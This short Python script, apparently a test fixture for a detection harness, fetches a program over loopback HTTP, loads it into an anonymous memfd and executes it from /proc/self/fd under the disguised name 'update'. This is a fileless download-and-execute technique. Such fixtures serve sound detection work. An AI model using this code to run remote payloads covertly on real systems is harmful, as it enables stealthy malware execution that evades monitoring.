# memfdexec (python): fetch a program over loopback HTTP, write it to a
# memfd, exec it through /proc/self/fd.
import os, urllib.request
url = "http://127.0.0.1:%s/payload" % os.environ["RD_HTTP"]
os.path.exists("/archangel-riskdata/begin/memfdexec")
data = urllib.request.urlopen(url).read()
fd = os.memfd_create("x", 0)
os.write(fd, data)
pid = os.fork()
if pid == 0:
    os.execv("/proc/self/fd/%d" % fd, ["update"])
os.waitpid(pid, 0)
os.path.exists("/archangel-riskdata/end")
